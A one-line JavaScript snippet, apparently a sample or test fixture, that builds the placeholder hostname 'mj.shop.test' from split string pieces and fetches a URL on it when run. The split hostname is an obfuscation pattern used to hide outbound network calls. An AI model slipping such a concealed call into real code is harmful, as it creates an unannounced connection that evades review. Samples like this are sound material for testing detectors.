(()=>{var s=["mj","shop","test"].map(t=>t.toLowerCase()).join(".");fetch(`https://${s}/v1`);})();
